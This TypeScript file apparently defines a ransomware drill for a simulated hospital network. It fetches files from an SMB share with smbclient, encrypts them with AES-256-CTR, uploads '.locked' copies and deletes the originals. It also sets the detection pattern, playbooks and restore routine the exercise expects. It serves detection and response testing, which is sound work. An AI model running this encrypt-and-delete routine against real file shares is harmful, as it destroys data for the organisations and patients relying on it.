import { createCipheriv, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { PLACES } from '../hospital/places.ts';
import { restoreDocuments } from '../hospital/restore.ts';
import { RESTORE_PLAYBOOK } from '../sphinx/restore-documents.ts';
import type { Drill } from './drill.ts';
import { tool } from './talk.ts';

const FILES_PER_STEP = 4;
const KEY = randomBytes(32);

/** Files of the share are fetched, encrypted and put back over SMB under another name; the originals are deleted. */
export const ransomware: Drill = {
  id: 'ransomware',
  title: 'Ransomware encrypts the file share from a workstation',
  useCase: '6 Ransomware',
  from: PLACES.station1,
  targets: [PLACES.share],
  mustDetect: /rewrites files|ransom/i,
  playbooks: [/^Ransomware/, /^Isolate/, /^Micro/],
  steps: 60,
  everyMs: 500,
  async step(number) {
    const folder = mkdtempSync('/run/attack-');
    try {
      const names = Array.from({ length: FILES_PER_STEP }, (_, at) => {
        const file = 1 + ((number * FILES_PER_STEP + at + 100) % 240);
        return `letter-${String(file).padStart(4, '0')}.txt`;
      });
      const share = [`//${PLACES.share.ip}/documents`, '-N', '-c'];
      const fetched = await tool('smbclient', [...share, names.map((name) => `get ${name}`).join('; ')], { folder });
      if (fetched.code !== 0) return false;
      for (const name of names) {
        const cipher = createCipheriv('aes-256-ctr', KEY, randomBytes(16));
        writeFileSync(
          join(folder, `${name}.locked`),
          Buffer.concat([cipher.update(readFileSync(join(folder, name))), cipher.final()]),
        );
      }
      const commands = names.map((name) => `put ${name}.locked; del ${name}`).join('; ');
      return (await tool('smbclient', [...share, commands], { folder })).code === 0;
    } finally {
      rmSync(folder, { recursive: true });
    }
  },
  async damage(hospital) {
    const lost = hospital.lostDocuments();
    return lost.length === 0 ? [] : [`${lost.length} of ${hospital.documents.size} documents are lost`];
  },
  restoredBy: RESTORE_PLAYBOOK,
  repair: restoreDocuments,
};
